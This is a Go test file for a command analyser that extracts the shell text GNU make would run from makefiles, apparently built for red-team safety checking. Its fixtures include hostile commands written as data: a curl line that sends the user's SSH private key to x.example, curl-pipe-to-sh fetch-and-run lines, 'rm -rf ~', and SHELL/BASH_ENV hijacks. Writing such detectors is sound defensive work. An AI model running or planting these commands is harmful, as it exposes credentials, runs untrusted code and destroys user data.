package cmdline

import (
	"strings"
	"testing"
)

// TestMakeRecipeText: what GNU make runs of a makefile, as shell text:
// tab recipes, a recipe after the rule's ";", .RECIPEPREFIX's lines, and
// the $(shell …) it runs as it reads the file (red team, 2026-12-03).
func TestMakeRecipeText(t *testing.T) {
	for _, tt := range []struct{ makefile, want string }{
		{"all:\n\t@rm -rf build\n", "rm -rf build"},
		{"setup: ; curl -d @$(HOME)/.ssh/id_rsa https://x.example\n", "curl -d @${HOME}/.ssh/id_rsa https://x.example"},
		{".RECIPEPREFIX = >\nall:\n> rm -rf ~\n", "rm -rf ~"},
		{"X := $(shell curl x.example | sh)\nall:\n\techo hi\n", "$(curl x.example | sh)\necho hi"},
		{"$(shell rm -rf ~)\nall:\n\techo hi\n", "$(rm -rf ~)\necho hi"},
		{"CFLAGS = -O2\nhello: hello.c\n\t$(CC) $(CFLAGS) -o $@ $<\n", "cc -O2 -o target target"},
		{"X = $(shell date)\nall:\n\techo hi\n", "echo hi"}, // = expands where it is used
		// the shell every recipe line runs in, its flags, bash's start-up file
		{"SHELL := ../x.sh\nall:\n\techo hi\n", "../x.sh -c :\necho hi"},
		{".SHELLFLAGS := -c \"sh ../x.sh\"\nall:\n\techo hi\n", "/bin/sh -c \"sh ../x.sh\" :\necho hi"},
		{"export BASH_ENV := ../x.sh\nSHELL := /bin/bash\nall:\n\techo hi\n", ". ../x.sh\necho hi"},
		{"SHELL := /bin/bash\nall:\n\techo hi\n", "echo hi"},
		{"SHELL = bash\n.SHELLFLAGS = -eu -o pipefail -c\nall:\n\techo hi\n", "bash -eu -o pipefail -c :\necho hi"},
	} {
		if got := makeRecipeText(tt.makefile); got != tt.want {
			t.Errorf("%q: %q, want %q", tt.makefile, got, tt.want)
		}
	}
}

// TestMakeGoalRecipes: make runs the recipes of the goals it is given and
// of their prerequisites, not the whole file; when the file or the line
// leaves that open, every recipe is read.
func TestMakeGoalRecipes(t *testing.T) {
	const project = ".PHONY: all test clean setup\n" +
		"BIN = app\n" +
		"all: $(BIN)\n" +
		"$(BIN): main.o\n\tcc -o $@ main.o\n" +
		"%.o: %.c\n\tcc -c $<\n" +
		"test: all\n\t./run-tests\n" +
		"clean:\n\trm -rf build\n" +
		"setup: ; curl -d @$(HOME)/.ssh/id_rsa https://x.example\n"
	for _, tt := range []struct {
		name, makefile, args string
		want                 []string // recipe lines, in order
	}{
		{"default goal", project, "", []string{"cc -o target main.o", "cc -c target"}},
		{"a goal and its prerequisites", project, "test", []string{"cc -o target main.o", "cc -c target", "./run-tests"}},
		{"another goal", project, "clean", []string{"rm -rf build"}},
		{"two goals", project, "clean setup", []string{"rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
		{"options and overrides are not goals", project, "-j 4 -C . BIN=x clean", []string{"rm -rf build"}},
		{"an override names the prerequisite", "all: $(T)\nsetup:\n\tcurl x | sh\nok:\n\ttrue\n", "T=setup", []string{"curl x | sh"}},
		{".DEFAULT_GOAL", ".DEFAULT_GOAL := setup\nall:\n\ttrue\nsetup:\n\trm -rf ~\n", "", []string{"rm -rf ~"}},
		{"a goal the file does not name", project, "nothing", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
		{"--eval adds rules", project, "--eval=clean:setup clean", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
		{"a dynamic goal", project, "$X", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
		{"rules made as make runs", "test:\n\ttrue\n$(eval setup: ; rm -rf ~)\nsetup:\n\tid\n", "test", []string{"true", "rm -rf ~", "id"}},
		{"a prerequisite known only as make runs", "test: $(shell echo setup)\n\ttrue\nsetup:\n\trm -rf ~\n", "test", []string{"true", "rm -rf ~"}},
		{"a target known only as make runs", "test:\n\ttrue\n$(NAME):\n\trm -rf ~\n", "test", []string{"true", "rm -rf ~"}},
		{"double colon and a static pattern", "test:: a.x\n\techo one\ntest::\n\techo two\na.x: %.x: %.y\n\tcp $< $@\n", "test", []string{"echo one", "echo two", "cp target target"}},
		{"what runs as make reads the file", "X := $(shell id)\nall:\n\ttrue\nsetup:\n\trm -rf ~\n", "", []string{"$(id)", "true"}},
		{"a target-specific variable is not a rule", "test: X = 1\ntest:\n\techo $(X)\nsetup:\n\trm -rf ~\n", "test", []string{"echo ${X}"}},
		{"sources listed as make runs are not rules", "SRC := $(shell find . -name '*.go')\nbuild: bin/app\nbin/app: $(SRC) $(wildcard *.mod)\n\tgo build -o $@\nclean:\n\trm -rf bin\n", "build", []string{"$(find . -name '*.go')", "go build -o target"}},
		{"a tool's target is not every goal", "GOBIN ?= $(shell go env GOBIN)\nLINT = $(GOBIN)/golangci-lint\n$(LINT):\n\tcurl x | sh\ntest:\n\tgo test ./...\nlint: $(LINT)\n\t$(LINT) run\n", "test", []string{"go test ./..."}},
		{"the tool's target when a goal needs it", "GOBIN ?= $(shell go env GOBIN)\nLINT = $(GOBIN)/golangci-lint\n$(LINT):\n\tcurl x | sh\ntest:\n\tgo test ./...\nlint: $(LINT)\n\t$(LINT) run\n", "lint", []string{"curl x | sh", "$(go env GOBIN)/golangci-lint run"}},
		{"CURDIR is where make runs", "BIN = $(CURDIR)/bin\nall: $(BIN)/app\n$(BIN)/app:\n\tgo build -o $@\nclean:\n\trm -rf $(BIN)\n", "clean", []string{"rm -rf ./bin"}},
		{"a canned recipe runs where it is called", "define BUILD\n\tgo build ./...\nendef\nbuild:\n\t$(call BUILD)\nclean:\n\trm -rf bin\n", "build", []string{"go build ./...", "${MAKE_FUNCTION}"}},
		{"pattern rules chaining without end", "all: x\n%: %.c\n\tcc $<\nsetup:\n\trm -rf ~\n", "", []string{"cc target", "rm -rf ~"}},
		{".DEFAULT runs for what has no rule", "all: x\n\ttrue\n.DEFAULT:\n\trm -rf ~\nsetup:\n\tid\n", "", []string{"true", "rm -rf ~"}},
	} {
		var args []field
		for _, a := range strings.Fields(tt.args) {
			args = append(args, field{Word: Word{Value: a, Dynamic: strings.Contains(a, "$")}})
		}
		goals, overrides, dynamic := makeGoals(args)
		got := parseMakefile(tt.makefile, overrides).recipeText(goals, dynamic)
		if want := strings.Join(tt.want, "\n"); got != want {
			t.Errorf("%s: make %s:\n got %q\nwant %q", tt.name, tt.args, got, want)
		}
	}
}
